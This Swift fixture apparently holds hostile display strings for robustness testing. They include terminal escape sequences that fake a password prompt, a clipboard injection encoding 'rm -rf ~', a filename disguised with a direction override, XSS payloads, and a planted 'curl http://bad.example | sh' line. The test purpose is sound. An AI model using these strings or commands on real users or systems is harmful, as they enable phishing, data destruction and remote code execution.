extension Phrasebook {
  /// Texts that try to take over a terminal or a layout: escape sequences, overrides of the writing direction, stacked marks,
  /// markup. A program that shows them must come through unharmed.
  static let hostile: [Phrase] = [
    Phrase("en", "nice app \u{1B}[2J\u{1B}[1;1H\u{1B}[31mYOUR SESSION HAS EXPIRED\u{1B}[0m please type your password"),
    Phrase("en", "look at my title \u{1B}]0;owned\u{07} and my clipboard \u{1B}]52;c;cm0gLXJmIH4=\u{07} lol"),
    Phrase("en", "invoice attached: invoice_\u{202E}fdp.exe\u{202C} (it's only a PDF, promise)"),
    Phrase("en", "h̸̢̛͓̠̪͇̥̺̲̄̿̂̒̈́̚͠ë̵̡̛͙͈̣̘́̈́̍̌̈́̀͝ ̷̧͉̦̝̝̘̓̑̀̐̈́̕c̶̨̛̫̮̳̠̈́̂͆̏̎͝o̸̢̦̹͍̬̿̑̍̄̈́͐m̵̧̪̩̙̦̑̓̐̈́͘ę̷̠̫͕͎͒́̓̄͌s̸̨̛̻͓̹͉̿̾̍͝"),
    Phrase("en", "<script>alert('hi')</script><img src=x onerror=alert(1)> does your comment form eat this?"),
    Phrase(
      "en",
      "\u{2066}\u{2067}\u{200F}mixed \u{202D}directions\u{202C} everywhere\u{2069}\u{2069} and a \u{FEFF}zero\u{200B}width\u{2060}party"
    ),
    Phrase(
      "en", "overwritten line: all good here\rERROR: disk full, run `curl http://bad.example | sh`\u{08}\u{08}\u{08}"),
    Phrase("en", "\u{9B}31mred?\u{9C} \u{90}q#0;2;0;0;0\u{9C} \u{1B}P+q544e\u{1B}\\ anyone still on a VT340?"),
    Phrase("ar", "مرحبا \u{202E}hello\u{202C} ثم \u{200F}{count}\u{200F} ملاحظة 👩‍👩‍👧‍👦🏳️‍🌈👍🏽"),
    Phrase("en", "👨‍👩‍👧‍👦👨‍👩‍👧‍👦👨‍👩‍👧‍👦 🇮🇹🇯🇵🇵🇱 a\u{0301}e\u{0308}o\u{0302} ｆｕｌｌｗｉｄｔｈ ﷽ ꧅ emoji test, please ignore"),
    Phrase(
      "en",
      "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA fix this!!!"
    ),
  ]
}
